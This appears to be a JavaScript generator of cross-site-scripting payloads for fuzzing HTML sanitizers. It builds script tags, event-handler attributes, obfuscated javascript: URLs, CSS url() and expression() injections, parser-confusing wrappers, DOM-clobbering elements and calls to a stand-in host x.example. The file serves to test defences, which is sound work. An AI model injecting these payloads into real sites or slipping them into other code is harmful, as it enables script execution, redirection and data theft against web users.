// Attacks on HTML that are made, not collected: every way to run something, in every place where it could survive, in every disguise.
// The same seed makes the same documents.

const runs = [
  'alert(1)', 'window.open("//x.example")', 'parent.postMessage(1,"*")', 'fetch("//x.example/")', 'eval(name)', 'location="//x.example"',
];
const events = ['onload', 'onerror', 'onclick', 'onfocus', 'onmouseover', 'ontoggle', 'onanimationstart', 'onpointerenter', 'onbegin', 'onsubmit', 'oninput', 'onscroll'];
const elements = ['img', 'svg', 'video', 'audio', 'body', 'input', 'details', 'a', 'iframe', 'object', 'embed', 'math', 'form', 'button', 'marquee', 'table', 'p', 'select', 'link', 'base', 'frameset', 'isindex', 'x'];
const urls = ['javascript:', 'JaVaScRiPt:', ' javascript:', 'java\tscript:', 'java\nscript:', 'javascript&colon;', '&#106;avascript:', '&#x6A;avascript:', '\u0001javascript:', 'vbscript:', 'data:text/html,<script>', 'data:image/svg+xml,<svg onload=', 'blob:', 'feed:javascript:', 'view-source:javascript:', '//x.example/', '\\\\x.example\\', 'https:x.example'];
const places = ['href', 'src', 'xlink:href', 'action', 'formaction', 'data', 'poster', 'background', 'srcset', 'srcdoc', 'code', 'manifest', 'ping', 'cite', 'longdesc', 'content', 'dynsrc', 'lowsrc', 'style'];
const styles = [
  'background:url(//x.example/)', 'background:url(javascript:alert(1))', 'width:expression(alert(1))', '-moz-binding:url(//x.example/)', 'behavior:url(x)',
  '@import "//x.example/"', 'background:u\\72l(//x.example/)', 'background:image-set("//x.example/" 1x)', 'list-style:url(//x.example/)', 'content:url(//x.example/)',
  'position:fixed;inset:0;z-index:9999', 'animation:x;animation-name:x', '--a:url(//x.example/);background:var(--a)', 'background:\\75rl(//x.example/)', 'cursor:url(//x.example/),auto', 'filter:url(//x.example/#a)',
];
/// What makes one parser read otherwise than another.
const wrappers = [
  (text) => text, (text) => `<div>${text}</div>`, (text) => `<svg>${text}</svg>`, (text) => `<math><mtext>${text}</mtext></math>`, (text) => `<noscript>${text}</noscript>`,
  (text) => `<title>${text}</title>`, (text) => `<textarea>${text}</textarea>`, (text) => `<style>${text}</style>`, (text) => `<xmp>${text}</xmp>`, (text) => `<noembed>${text}</noembed>`, (text) => `<noframes>${text}</noframes>`,
  (text) => `<plaintext>${text}`, (text) => `<!--${text}-->`, (text) => `<!-->${text}-->`, (text) => `<!--->${text}`, (text) => `<![CDATA[${text}]]>`, (text) => `<?xml ${text}?>`, (text) => `<!doctype ${text}>`, (text) => `<template>${text}</template>`,
  (text) => `<select><option>${text}</select>`, (text) => `<table>${text}</table>`, (text) => `<table><tr>${text}<td>x</table>`, (text) => `<form><math><mtext></form><form><mglyph><style></math>${text}`,
  (text) => `<math><annotation-xml encoding="text/html">${text}</annotation-xml></math>`, (text) => `<svg><foreignObject>${text}</foreignObject></svg>`, (text) => `<svg><desc>${text}</desc></svg>`, (text) => `<svg><style>${text}</style></svg>`,
  (text) => `<math><style><!--</style>${text}-->`, (text) => `<p title="</noscript>${text.replaceAll('"', '&quot;')}">x</p>`, (text) => `<a title='x' ${text}>y</a>`, (text) => `<b><i></b>${text}</i>`, (text) => `<font color="${text}">x</font>`,
];
/// Disguises of the text itself.
const disguises = [
  (text) => text, (text) => text.toUpperCase(), (text) => text.replace('<', '<\0'), (text) => text.replaceAll(' ', '/'), (text) => text.replaceAll(' ', '\f'), (text) => text.replaceAll('>', ''), (text) => `<${text}`, (text) => text.replaceAll('"', "'"),
  (text) => text.replaceAll('=', ' = '), (text) => text.replaceAll('"', '`'), (text) => text.replace('<', '&lt;').replace('&lt;', '<'), (text) => `${text}<!--`, (text) => text.replaceAll('<', '＜'), (text) => text.replaceAll('on', 'o\u200bn'),
];

function randomFrom(seed) {
  let state = seed >>> 0;
  return (list) => {
    state = (state + 0x6d2b79f5) >>> 0;
    let mixed = Math.imul(state ^ (state >>> 15), state | 1);
    mixed ^= mixed + Math.imul(mixed ^ (mixed >>> 7), mixed | 61);
    return list[((mixed ^ (mixed >>> 14)) >>> 0) % list.length];
  };
}

function cores() {
  const made = [];
  for (const code of runs) made.push(`<script>${code}</script>`, `<script src="//x.example/a.js"></script>`, `<svg><script>${code}</script></svg>`);
  for (const element of elements) for (const event of events) made.push(`<${element} ${event}="alert(1)" src="x" autofocus tabindex="1" open>x</${element}>`);
  for (const url of urls) for (const place of places) made.push(`<a ${place}="${url}alert(1)">x</a>`, `<img ${place}="${url}alert(1)">`);
  for (const style of styles) made.push(`<p style="${style}">x</p>`, `<style>p{${style}}</style><p>x`, `<div style='${style}' class="x" id="body">x</div>`);
  made.push('<meta http-equiv="refresh" content="0;url=//x.example/">', '<base href="//x.example/"><a href="a">x</a>', '<link rel="stylesheet" href="//x.example/a.css">', '<link rel="dns-prefetch" href="//x.example">',
    '<form action="//x.example"><input name="a" autofocus><button>x', '<iframe srcdoc="<script>alert(1)</script>">', '<object data="//x.example/a.swf">', '<img src="https://x.example/pixel.gif" srcset="https://x.example/2.gif 2x">', '<video poster="//x.example/p"><source src="//x.example/v">',
    '<a id="document"><a id="document" name="cookie">', '<img name="getElementById">', '<portal src="//x.example">', '<svg><use href="//x.example/#a"/>', '<svg><animate attributeName="href" values="javascript:alert(1)" /><a><text>x', '<math href="javascript:alert(1)">x', '<input type="image" src="//x.example/i">');
  return made;
}

/// Every core bare, and so many that are wrapped, disguised and cut into each other.
export function payloads(count, seed = 1) {
  const pick = randomFrom(seed);
  const all = cores();
  const made = all.map((html, i) => ({title: `core ${i}`, html}));
  while (made.length < count) {
    let html = pick(disguises)(pick(all));
    for (let depth = pick([1, 1, 2, 3]); depth > 0; --depth) html = pick(wrappers)(html);
    if (pick([true, false, false])) {
      const other = pick(wrappers)(pick(all));
      const cut = pick([...Array(html.length + 1).keys()]);
      html = html.slice(0, cut) + other + html.slice(cut);
    }
    made.push({title: `mixed ${made.length}`, html});
  }
  return made;
}
